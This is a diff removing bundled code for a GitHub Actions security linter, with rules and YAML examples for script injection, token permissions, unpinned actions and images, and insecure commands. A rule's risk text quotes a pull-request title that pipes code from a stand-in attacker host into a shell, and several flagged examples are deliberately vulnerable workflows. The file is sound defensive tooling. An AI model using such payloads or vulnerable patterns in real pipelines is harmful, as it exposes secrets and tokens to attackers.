-    if (segments[1] === "event" && segments[2] === "inputs" && segments[3] !== undefined && segments[3] !== "*") {
-        return rateInput(segments[3], step, source);
-    }
-    const capability = rateGithubContext(segments);
-    if (capability === "fixed")
-        return undefined;
-    if (capability === "structured") {
-        return {
-            severity: "medium",
-            confidence: "high",
-            persona: "regular",
-            source,
-            why: "partly an attacker's own words",
-        };
-    }
-    return { severity: "high", confidence: "high", persona: "regular", source, why: "what an attacker may write" };
-}
-function rateInput(name, step, source) {
-    const declared = name === undefined ? [] : declarationsOf(step, name);
-    if (declared.length === 0) {
-        return {
-            severity: "low",
-            confidence: "low",
-            persona: "regular",
-            source,
-            why: "an input that this file doesn't declare",
-        };
-    }
-    const isText = declared.some((input) => input.type === "string");
-    if (!isText)
-        return { ...HARMLESS, source, why: `an input of type ${declared[0]?.type}` };
-    return { severity: "high", confidence: "high", persona: "regular", source, why: "whatever the caller passes" };
-}
-function declarationsOf(step, name) {
-    const { owner } = step;
-    const inputs = owner.kind === "composite"
-        ? owner.inputs
-        : ["workflow_call", "workflow_dispatch"].flatMap((event) => owner.workflow.trigger(event)?.inputs ?? []);
-    return inputs.filter((input) => input.name.toLowerCase() === name);
-}
-/** A variable is as bad as the expression that it was set from; one that isn't set here may be set by an earlier step. */
-function rateEnv(name, step, source, hops) {
-    const value = name === undefined ? undefined : step.variable(name)?.value;
-    if (!value) {
-        return {
-            severity: "low",
-            confidence: "high",
-            persona: "regular",
-            source,
-            why: "a variable that isn't set in this file",
-        };
-    }
-    const expressions = expressionsIn(value);
-    if (expressions.length === 0)
-        return { ...HARMLESS, source, why: "a variable with fixed text" };
-    let worst = {
-        severity: "low",
-        confidence: "high",
-        persona: "regular",
-        source,
-        why: "a variable set from an expression",
-    };
-    for (const { expression } of hops < MAX_ENV_HOPS ? expressions : []) {
-        const inner = expression && rate(expression, step, hops + 1);
-        if (inner?.persona === "regular" && isWorse(inner, worst))
-            worst = { ...inner, why: `${inner.why}, by way of \`${source}\`` };
-    }
-    return worst;
-}
-function rateMatrix(path, step, source) {
-    const matrix = step.owner.kind === "normal" ? step.owner.matrix : null;
-    if (!matrix)
-        return undefined;
-    const { values, isOpen } = matrix.valuesOf(path);
-    if (!isOpen && values.every((value) => expressionsIn(value).length === 0))
-        return undefined;
-    return {
-        severity: "medium",
-        confidence: "medium",
-        persona: "regular",
-        source,
-        why: "a matrix value that an expression fills",
-    };
-}
-const CLEAN_OUTCOMES = new Set(["conclusion", "outcome", "result"]);
-function rateOutput(segments, source) {
-    if (segments.length === 3 && CLEAN_OUTCOMES.has(segments[2]))
-        return undefined;
-    return { severity: "info", confidence: "low", persona: "regular", source, why: "what an earlier step or job wrote" };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/template-injection.js
-
-
-
-
-
-
-
-
-/* harmony default export */ const template_injection = (defineRule({
-    id: "template-injection",
-    category: "injection",
-    severity: "high",
-    isZizmor: true,
-    fixes: "both",
-    summary: "Text that others write is expanded into a script",
-    risk: "The runner pastes the text into the script before the shell reads it. A pull request titled `$(curl attacker.example|sh)` is then a command in your job, with its token and its secrets.",
-    mend: 'Hand the value over in `env:` and read the variable in the script, in double quotes: `echo "${TITLE}"`.',
-    sources: [
-        "https://docs.github.com/actions/concepts/security/script-injections",
-        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
-    ],
-    examples: {
-        flagged: [
-            {
-                text: `on: pull_request_target
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: |
-          set -e
-          echo "Title: \${{ github.event.pull_request.title }}"
-`,
-                at: [9],
-                severity: "high",
-                fixed: `on: pull_request_target
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: |
-          set -e
-          echo "Title: \${PULL_REQUEST_TITLE}"
-        env:
-          PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
-`,
-            },
-            {
-                text: `on: issues
-permissions: {}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: echo \${{ format('{0}', github.event.issue.body) }}
-`,
-                at: [7],
-                severity: "medium",
-            },
-            {
-                text: `on: issue_comment
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/github-script@1234567890abcdef1234567890abcdef12345678
-        with:
-          script: |
-            core.info(\`\${{ github.event.comment.body }}\`)
-`,
-                at: [10],
-                fixed: `on: issue_comment
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/github-script@1234567890abcdef1234567890abcdef12345678
-        with:
-          script: |
-            core.info(\`\${process.env.COMMENT_BODY}\`)
-        env:
-          COMMENT_BODY: \${{ github.event.comment.body }}
-`,
-            },
-            {
-                path: "act/action.yml",
-                text: `name: c
-description: c
-inputs:
-  name: {description: n}
-runs:
-  using: composite
-  steps:
-    - run: Write-Output "Hello \${{ inputs.name }}"
-      shell: pwsh
-`,
-                at: [8],
-                severity: "high",
-                fixed: `name: c
-description: c
-inputs:
-  name: {description: n}
-runs:
-  using: composite
-  steps:
-    - run: Write-Output "Hello \${env:INPUTS_NAME}"
-      env:
-        INPUTS_NAME: \${{ inputs.name }}
-      shell: pwsh
-`,
-            },
-            {
-                text: `on: push
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: echo \${{ github.sha }}
-`,
-                at: [7],
-                persona: "pedantic",
-                severity: "low",
-            },
-        ],
-        silent: [
-            {
-                text: `on: pull_request_target
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: echo "$TITLE"
-        env:
-          TITLE: \${{ github.event.pull_request.title }}
-`,
-                because: "the shell gets the text as a variable's value and never reads it as code",
-            },
-            {
-                text: `on: pull_request_target
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: |
-          echo \${{ github.event.pull_request.title == 'x' }}
-          echo \${{ github.event.pull_request.number }} \${{ github.event.pull_request.head.sha }}
-          echo \${{ contains(github.event.pull_request.body, 'x') && 'yes' || 'no' }}
-`,
-                because: "a comparison gives `true` or `false`, and numbers and hashes hold nothing that a shell acts on",
-            },
-        ],
-    },
-    run(run, report) {
-        judge(run.scalar, run.shell, run.step, report);
-    },
-    uses({ uses, step }, report) {
-        if (!step || uses.target.kind !== "repository" || !step.with)
-            return;
-        const name = nameOf(uses.target);
-        for (const input of codeInputsOf(name)) {
-            const value = step.input(input)?.value;
-            if (value?.kind === "scalar")
-                judge(value, code_inputs_languageOf(name), step, report);
-        }
-    },
-}));
-const LANGUAGES = {
-    bash: "a shell script",
-    sh: "a shell script",
-    pwsh: "a PowerShell script",
-    powershell: "a PowerShell script",
-    cmd: "a batch script",
-    python: "a Python program",
-    javascript: "a JavaScript program",
-    unknown: "code",
-};
-function judge(scalar, shell, step, report) {
-    for (const embedded of expressionsIn(scalar)) {
-        const { expression } = embedded;
-        if (!expression)
-            continue;
-        const rating = rateExpression(expression, step);
-        if (rating.persona === "pedantic" && report.persona === "regular")
-            continue;
-        speak(embedded, rating, shell, step, report);
-    }
-}
-function speak(embedded, rating, shell, step, report) {
-    const subject = rating.source === "" ? "An expression" : `\`${rating.source}\``;
-    const cause = rating.source === "" ? `${subject} is` : `${subject} is ${rating.why}, and it is`;
-    const isNeverSet = rating.persona === "regular" && !isSetBy(rating.source, step);
-    const note = isNeverSet ? " (none of the workflow's events sets it)" : "";
-    report({ file: embedded.file, ...embedded.spanOf() }, `${cause} expanded into ${LANGUAGES[shell]}${note}`, {
-        severity: hasLittleToLose(step) ? (0,lib/* lowered */.DM)(rating.severity) : rating.severity,
-        confidence: isNeverSet ? "low" : rating.confidence,
-        persona: rating.persona,
-        fix: rating.source === "" ? null : handOverThroughEnv(embedded, shell, step),
-    });
-}
-/** The caller decides what a composite action's job holds. */
-function hasLittleToLose({ owner }) {
-    return owner.kind === "normal" && holdsNothing(holdingsOf(owner));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/suppression-without-reason.js
-
-/* harmony default export */ const suppression_without_reason = (defineRule({
-    id: "suppression-without-reason",
-    category: "meta",
-    severity: "low",
-    summary: "An ignore comment gives no reason",
-    risk: "Nobody can tell later whether the finding was judged or only silenced, so it is not silenced.",
-    mend: "Write why behind the bracket: `# trustchain: ignore[unpinned-uses] vendored mirror, updated by its own job`.",
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: octo-org/workflows/.github/workflows/build.yml@v1 # trustchain: ignore[unpinned-uses]
-`,
-                at: [5],
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: octo-org/workflows/.github/workflows/build.yml@v1 # trustchain: ignore[unpinned-uses] our own, tags are protected
-`,
-                because: "the reason is there",
-            },
-        ],
-    },
-}));
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unreadable-file.js
-
-/* harmony default export */ const unreadable_file = (defineRule({
-    id: "unreadable-file",
-    category: "meta",
-    severity: "high",
-    summary: "A file can't be read as GitHub would read it",
-    risk: "What can't be read can't be checked: anything may stand in it. GitHub may refuse the file, or read it otherwise than its author meant.",
-    mend: "Mend the file at the place that is named. It is UTF-8 text and one YAML 1.2 document, with each key once in its mapping and without merge keys (`<<`).",
-    sources: [
-        "https://yaml.org/spec/1.2.2/",
-        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax",
-    ],
-    examples: {
-        flagged: [
-            { text: "on: push\njobs:\n  a: [\n", at: [4] },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  a: &a
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-  b:
-    <<: *a
-`,
-                at: [8],
-            },
-            { text: "on: push\npermissions: {}\npermissions: read-all\njobs: {}\n", at: [3] },
-            { text: "# nothing but a comment\n", at: [1] },
-            { text: "- a\n- list\n", at: [1] },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  a: &a
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-  b: *a
-`,
-                because: "GitHub reads anchors and aliases",
-            },
-        ],
-    },
-    repository(repository, report) {
-        const told = new Map();
-        for (const { file } of repository.unreadable)
-            told.set(file.path, (told.get(file.path) ?? 0) + 1);
-        for (const { file, start, end, reason } of repository.unreadable) {
-            const count = told.get(file.path);
-            if (count === undefined)
-                continue;
-            told.delete(file.path);
-            const more = count > 1 ? ` (and ${count - 1} more of its kind)` : "";
-            report({ file, start, end }, `This file can't be read: ${reason}${more}`);
-        }
-    },
-}));
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unused-suppression.js
-
-/* harmony default export */ const unused_suppression = (defineRule({
-    id: "unused-suppression",
-    category: "meta",
-    severity: "low",
-    persona: "pedantic",
-    summary: "An ignore comment silences nothing",
-    risk: "It would silence a finding that somebody adds to this line one day, without anyone having judged it.",
-    mend: "Remove the comment, or mend the rule's id in it.",
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    # trustchain: ignore[unpinned-uses] was on a tag once
-    uses: octo-org/workflows/.github/workflows/build.yml@1234567890abcdef1234567890abcdef12345678
-`,
-                at: [5],
-                persona: "pedantic",
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    # trustchain: ignore[unpinned-uses] our own, tags are protected
-    uses: octo-org/workflows/.github/workflows/build.yml@v1
-`,
-                persona: "pedantic",
-                because: "it silences a finding",
-            },
-        ],
-    },
-}));
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/token-use.js
-
-/** Actions that use the token for nothing but to read the repository, whatever their inputs are. */
-const READERS = new Set([
-    "actions/cache",
-    "actions/cache/restore",
-    "actions/cache/save",
-    "actions/checkout",
-    "actions/download-artifact",
-    "actions/setup-dotnet",
-    "actions/setup-go",
-    "actions/setup-java",
-    "actions/setup-node",
-    "actions/setup-python",
-    "actions/upload-artifact",
-]);
-const TOKEN = /\bgithub\s*\.\s*token\b|github_token|gh_token|\[\s*'token'\s*\]/i;
-/**
- * Is `contents: read` surely enough for a job's token? Only where every step is known, nothing in the job names the
- * token, and no script finds the credential that a checkout leaves behind.
- */
-function needsOnlyToRead(job) {
-    if (job.kind === "reusable")
-        return false;
-    let namesToken = false;
-    const look = (text) => {
-        namesToken ||= TOKEN.test(text);
-    };
-    visitScalars(job.map, (scalar) => look(scalar.value), new Set());
-    const workflowEnv = job.workflow.env?.entry.value;
-    if (workflowEnv)
-        visitScalars(workflowEnv, (scalar) => look(scalar.value), new Set());
-    return (!namesToken && job.steps.every(isReader) && !(leavesCredential(job.steps) && job.steps.some((step) => step.run)));
-}
-function isReader(step) {
-    if (step.run)
-        return true;
-    const { uses } = step;
-    return uses?.target.kind === "repository" && READERS.has(uses.text.split("@")[0]?.toLowerCase() ?? "");
-}
-function leavesCredential(steps) {
-    return steps.some((step) => {
-        const setting = step.input("persist-credentials")?.value;
-        const isOff = setting?.kind === "scalar" && setting.value === "false";
-        return step.uses?.is("actions/checkout") === true && !isOff;
-    });
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/permissions/excessive-permissions.js
-
-
-
-/** What an attacker can do with the scope when it may write; `medium` for scopes that aren't named. */
-const SCOPE_SEVERITY = {
-    actions: "high",
-    attestations: "high",
-    contents: "high",
-    deployments: "high",
-    "id-token": "high",
-    issues: "high",
-    models: "low",
-    packages: "high",
-    pages: "high",
-    "pull-requests": "high",
-    statuses: "low",
-};
-/* harmony default export */ const excessive_permissions = (defineRule({
-    id: "excessive-permissions",
-    category: "permissions",
-    severity: "medium",
-    isZizmor: true,
-    fixes: "safe",
-    summary: "A token may do more than its job needs",
-    risk: "Whatever gets into one step of the job can use the token: an action that was taken over, a dependency's install script, an expression that was expanded into a command. With write rights it changes code, releases and packages.",
-    mend: "Write `permissions: {}` at the top of the workflow, and give each job the scopes that it needs.",
-    sources: ["https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#permissions"],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: write-all
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-  b:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-`,
-                at: [2],
-                severity: "high",
-            },
-            {
-                text: `on: push
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - run: make
-  release:
-    runs-on: ubuntu-latest
-    permissions:
-      contents: write
-    steps:
-      - run: make release
-`,
-                at: [3],
-                severity: "medium",
-                fixed: `on: push
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    permissions:
-      contents: read
-    steps:
-      - run: make
-  release:
-    runs-on: ubuntu-latest
-    permissions:
-      contents: write
-    steps:
-      - run: make release
-`,
-            },
-            {
-                text: `on: push
-permissions:
-  contents: write
-  packages: read
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-  b:
-    runs-on: ubuntu-latest
-    permissions: read-all
-    steps: [{run: make}]
-`,
-                at: [3, 11],
-            },
-            {
-                text: `on: push
-permissions: write-all
-jobs:
-  only:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-`,
-                at: [2],
-                severity: "high",
-                fixed: `on: push
-permissions: {contents: read}
-jobs:
-  only:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-`,
-            },
-            {
-                text: `on: push
-permissions:
-  contents: write
-jobs:
-  only:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-`,
-                at: [3],
-                persona: "pedantic",
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    permissions:
-      contents: read
-    steps:
-      - run: make
-  release:
-    runs-on: ubuntu-latest
-    permissions:
-      contents: write
-    steps:
-      - run: make release
-`,
-                because: "each job says what it needs",
-            },
-            {
-                text: `on: push
-permissions:
-  contents: write
-jobs:
-  only:
-    runs-on: ubuntu-latest
-    steps: [{run: make}]
-`,
-                because: "with one job the workflow's block is the job's",
-            },
-        ],
-    },
-    workflow(workflow, report) {
-        const { permissions } = workflow;
-        if (!permissions)
-            return;
-        const isIrrelevant = workflow.isReusableOnly || workflow.jobs.every((job) => job.permissions);
-        const persona = isIrrelevant ? "pedantic" : "regular";
-        for (const excess of excessOf(permissions)) {
-            const fix = excessive_permissions_fixOf(permissions, inheritingJobs(workflow));
-            report(excess.place, excess.message("every job of the workflow"), { severity: excess.severity, persona, fix });
-        }
-        if (permissions.kind !== "scopes")
-            return;
-        for (const { scope, level, entry } of permissions.grants) {
-            if (level !== "write")
-                continue;
-            const message = `Every job of the workflow that has no \`permissions\` of its own may write \`${scope}\``;
-            const severity = SCOPE_SEVERITY[scope] ?? "medium";
-            // With one job the workflow's block says what a job-level one would.
-            report(entry.key, message, { severity, persona: workflow.jobs.length === 1 ? "pedantic" : persona });
-        }
-    },
-    job(job, report) {
-        judgeJob(job, job.workflow.isReusableOnly ? "pedantic" : "regular", report);
-    },
-    // The caller decides what a called workflow's token may do, even where the caller is called itself.
-    reusableJob(job, report) {
-        judgeJob(job, "regular", report);
-    },
-}));
-function judgeJob(job, persona, report) {
-    const { permissions } = job;
-    if (permissions) {
-        for (const excess of excessOf(permissions)) {
-            report(excess.place, excess.message(`the job \`${job.id}\``), {
-                severity: excess.severity,
-                persona,
-                fix: excessive_permissions_fixOf(permissions, [job]),
-            });
-        }
-    }
-    else if (!job.workflow.permissions) {
-        const message = `Nothing limits the token of the job \`${job.id}\`: it has the repository's default rights`;
-        report(job.key, message, { confidence: "medium", persona, fix: addReadOnly(job) });
-    }
-}
-function excessOf(permissions) {
-    const place = permissions.entry.value;
-    if (permissions.kind === "write-all") {
-        return [{ place, severity: "high", message: (whose) => `The token of ${whose} may write everything` }];
-    }
-    if (permissions.kind === "read-all") {
-        return [
-            {
-                place,
-                severity: "medium",
-                message: (whose) => `The token of ${whose} may read everything, secret-scanning alerts and packages too`,
-            },
-        ];
-    }
-    return [];
-}
-function inheritingJobs(workflow) {
-    return workflow.jobs.filter((job) => !job.permissions);
-}
-function excessive_permissions_fixOf(permissions, jobs) {
-    if (permissions.kind === "scopes" || permissions.entry.alias || !jobs.every(needsOnlyToRead))
-        return null;
-    const edit = replaceNode(permissions.entry.value, "{contents: read}");
-    return { description: "leave only `contents: read`", safe: true, edits: [edit] };
-}
-/** Sure only where nothing in the job can use more; see `needsOnlyToRead`. */
-function addReadOnly(job) {
-    if (!needsOnlyToRead(job))
-        return null;
-    const before = job.map.entries[0];
-    const edit = before && insertEntry(job.map, "permissions", { contents: "read" }, before);
-    return edit ? { description: "give the job `contents: read` and nothing else", safe: true, edits: [edit] } : null;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-images.js
-
-
-
-/* harmony default export */ const unpinned_images = (defineRule({
-    id: "unpinned-images",
-    category: "pinning",
-    severity: "high",
-    isZizmor: true,
-    summary: "A container image is not pinned to a digest",
-    risk: "The tag can be pushed again with another image at any time. What is in it then runs in your job, beside its secrets and its token.",
-    mend: "Name the digest, and keep the tag for readers: `node:22.1@sha256:…`.",
-    sources: ["https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier"],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    container: node:latest
-    services:
-      db:
-        image: registry.example.com:5000/db
-    steps:
-      - uses: docker://alpine
-`,
-                at: [6, 9, 11],
-                severity: "high",
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    container: {image: node:22.1}
-    steps:
-      - uses: docker://alpine:3.20
-`,
-                at: [6, 8],
-                persona: "pedantic",
-                severity: "low",
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    strategy:
-      matrix:
-        image: ["debian", "debian@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"]
-        include:
-          - image: fedora:latest
-    runs-on: ubuntu-latest
-    container: \${{ matrix.image }}
-    steps:
-      - run: make test
-`,
-                at: [7, 9],
-                confidence: "high",
-            },
-            {
-                text: `on:
-  workflow_call:
-    inputs:
-      image: {type: string}
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    container: \${{ inputs.image }}
-    steps:
-      - run: make test
-`,
-                at: [9],
-                confidence: "low",
-            },
-            {
-                path: "act/action.yml",
-                text: `name: scan
-description: scans
-runs:
-  using: docker
-  image: docker://registry.example.com/scan:latest
-`,
-                at: [5],
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    container: node@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
-    services:
-      db:
-        image: \${{ github.event_name == 'push' && 'db@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb' || '' }}
-    steps:
-      - run: make test
-`,
-                persona: "pedantic",
-                because: "each is pinned to a digest; an empty image means no container",
-            },
-            {
-                path: "act/action.yml",
-                text: `name: scan
-description: scans
-runs:
-  using: docker
-  image: Dockerfile
-`,
-                because: "the image is built from the repository",
-            },
-        ],
-    },
-    container({ image }, job, report) {
-        if (image)
-            unpinned_images_judge(image, image.value, job.matrix, report);
-    },
-    uses({ uses }, report) {
-        if (uses.target.kind === "docker")
-            judgeReference(uses.scalar, uses.target.image, [], report);
-    },
-    action(action, report) {
-        const image = action.kind === "docker" ? action.image : undefined;
-        if (!image?.value.startsWith("docker://"))
-            return;
-        unpinned_images_judge(image, image.value.slice("docker://".length), null, report);
-    },
-}));
-function unpinned_images_judge(scalar, text, matrix, report) {
-    const whole = wholeExpression(scalar)?.expression;
-    if (whole)
-        for (const leaf of resultLeaves(whole))
-            judgeLeaf(scalar, leaf, matrix, report);
-    else
-        judgeReference(scalar, parseImage(text), [], report);
-}
-function judgeLeaf(scalar, leaf, matrix, report) {
-    if (leaf.kind === "literal") {
-        if (typeof leaf.value === "string")
-            judgeReference(scalar, parseImage(leaf.value), [], report);
-        return;
-    }
-    const path = contextPath(leaf);
-    if (path?.segments[0] !== "matrix" || !matrix) {
-        sayUnknown(scalar, report);
-        return;
-    }
-    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
-    for (const value of values) {
-        if (expressionsIn(value).length > 0)
-            sayUnknown(scalar, report);
-        else
-            judgeReference(value, parseImage(value.value), [{ place: scalar, message: "it is used here" }], report);
-    }
-    if (isOpen && values.length === 0)
-        sayUnknown(scalar, report);
-}
-function sayUnknown(scalar, report) {
-    report(scalar, "The image comes from an expression, so nothing shows that it is pinned", { confidence: "low" });
-}
-function judgeReference(place, image, related, report) {
-    if (image.name === "" || image.digest !== null)
-        return;
-    const isOpen = image.text.includes("${{");
-    const confidence = isOpen ? "medium" : "high";
-    if (image.tag === null && isOpen)
-        sayUnknown(place, report);
-    else if (image.tag === null)
-        report(place, `\`${image.text}\` names neither a tag nor a digest: it is whatever \`latest\` is today`, {
-            related,
-        });
-    else if (image.tag === "latest")
-        report(place, `\`${image.text}\` is whatever was pushed last`, { related });
-    else {
-        const message = `\`${image.text}\` is a tag, which can be pushed again, not a digest`;
-        report(place, message, { severity: "low", confidence, persona: "pedantic", related });
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-uses.js
-
-
-/** Builders whose verifiers know them by their tag: called at a commit they refuse to work. */
-const MUST_STAY_ON_TAG = [
-    "slsa-framework/slsa-github-generator/.github/workflows/",
-    "slsa-framework/slsa-github-generator/actions/",
-];
-/* harmony default export */ const unpinned_uses = (defineRule({
-    id: "unpinned-uses",
-    category: "pinning",
-    severity: "high",
-    isZizmor: true,
-    summary: "An action or reusable workflow is not pinned to a commit",
-    risk: "A tag or branch can be moved to other code at any time, by its owner or by whoever took over the account. That code then runs in your job with its secrets and its token.",
-    mend: "Name the full 40-digit commit and keep the version as a comment: `uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.2.3`. `trustchain pin-actions-to-sha` finds them all.",
-    sources: ["https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions"],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: octo-org/checkout@v4
-      - {name: quoted, uses: "octo-org/thing/sub/dir@main"}
-      - uses: octo-org/short@1234567
-`,
-                at: [7, 8, 9],
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: octo-org/workflows/.github/workflows/build.yml@v1
-`,
-                at: [5],
-            },
-            {
-                path: "act/action.yml",
-                text: `name: composite
-description: calls another action
-runs:
-  using: composite
-  steps:
-    - uses: octo-org/thing@v1
-`,
-                at: [6],
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - &checkout
-        uses: octo-org/checkout@v4
-      - *checkout
-  b:
-    runs-on: ubuntu-latest
-    steps: [*checkout]
-`,
-                at: [8],
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  provenance:
-    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0
-`,
-                at: [5],
-                severity: "info",
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: octo-org/checkout@1234567890abcdef1234567890abcdef12345678 # v4.1.0
-`,
-                because: "it is pinned to a commit",
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: ./actions/own
-      - uses: $/actions/own
-      - run: |
-          echo "uses: octo-org/thing@v1"
-`,
-                because: "local actions come with the commit that runs, and text in a script is no reference",
-            },
-        ],
-    },
-    uses({ uses }, report) {
-        const { target } = uses;
-        if (target.kind !== "repository" || isCommit(target.ref))
-            return;
-        if (mustStayOnTag(target)) {
-            report(uses.scalar, `\`${uses.text}\` has to be called by a version tag, so it can't be pinned`, {
-                severity: "info",
-            });
-        }
-        else {
-            report(uses.scalar, `${describe(target)}, not a full commit SHA`);
-        }
-    },
-}));
-function describe({ owner, repo, path, ref }) {
-    const name = [owner, repo, path].filter((part) => part !== "").join("/");
-    if (/^[0-9a-f]{7,39}$/.test(ref))
-        return `\`${name}\` is at \`${ref}\`, which looks like a shortened commit`;
-    return `\`${name}\` is at \`${ref}\``;
-}
-function mustStayOnTag(target) {
-    const name = nameOf(target);
-    return /^v\d+\.\d+\.\d+/.test(target.ref) && MUST_STAY_ON_TAG.some((prefix) => name.startsWith(prefix));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/insecure-commands.js
-
-
-
-const insecure_commands_SWITCH = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
-/* harmony default export */ const insecure_commands = (defineRule({
-    id: "insecure-commands",
-    category: "runner",
-    severity: "high",
-    isZizmor: true,
-    fixes: "safe",
-    summary: "Workflow commands that set environment variables are switched back on",
-    risk: "Anything that prints to the log can then set variables and `PATH` for the steps that follow: a test's output is enough to run code.",
-    mend: "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS`; write to the files that `GITHUB_ENV` and `GITHUB_PATH` name.",
-    sources: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-env:
-  ACTIONS_ALLOW_UNSECURE_COMMANDS: true
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    env: {LEVEL: 1, ACTIONS_ALLOW_UNSECURE_COMMANDS: "True"}
-    steps:
-      - run: make
-        env:
-          LEVEL: 2
-          ACTIONS_ALLOW_UNSECURE_COMMANDS: 1
-`,
-                at: [4, 8, 13],
-                fixed: `on: push
-permissions: {}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    env: {LEVEL: 1}
-    steps:
-      - run: make
-        env:
-          LEVEL: 2
-`,
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: make
-        env:
-          ACTIONS_ALLOW_UNSECURE_COMMANDS: \${{ vars.UNSECURE }}
-`,
-                at: [9],
-                confidence: "low",
-                persona: "auditor",
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    # ACTIONS_ALLOW_UNSECURE_COMMANDS: true
-    env:
-      ACTIONS_ALLOW_UNSECURE_COMMANDS: false
-    steps:
-      - run: make
-`,
-                because: "it is off, and a comment sets nothing",
-            },
-        ],
-    },
-    env({ block }, report) {
-        if (block.dynamic) {
-            const message = `This block is an expression, which may set \`${insecure_commands_SWITCH}\``;
-            report(block.dynamic, message, { confidence: "low", persona: "auditor" });
-        }
-        for (const { entry, name, value } of block.entries) {
-            if (name.toUpperCase() !== insecure_commands_SWITCH)
-                continue;
-            if (isSwitchedOn(value)) {
-                const edit = (block.map && removeEntry(block.map, entry)) ?? removeEntry(block.parent, block.entry);
-                const fix = edit && { description: `remove \`${insecure_commands_SWITCH}\``, safe: true, edits: [edit] };
-                report(entry.key, "Any line of the log may set environment variables", { fix });
-            }
-            else if (value && expressionsIn(value).length > 0) {
-                const message = `An expression decides whether any line of the log may set environment variables`;
-                report(value, message, { confidence: "low", persona: "auditor" });
-            }
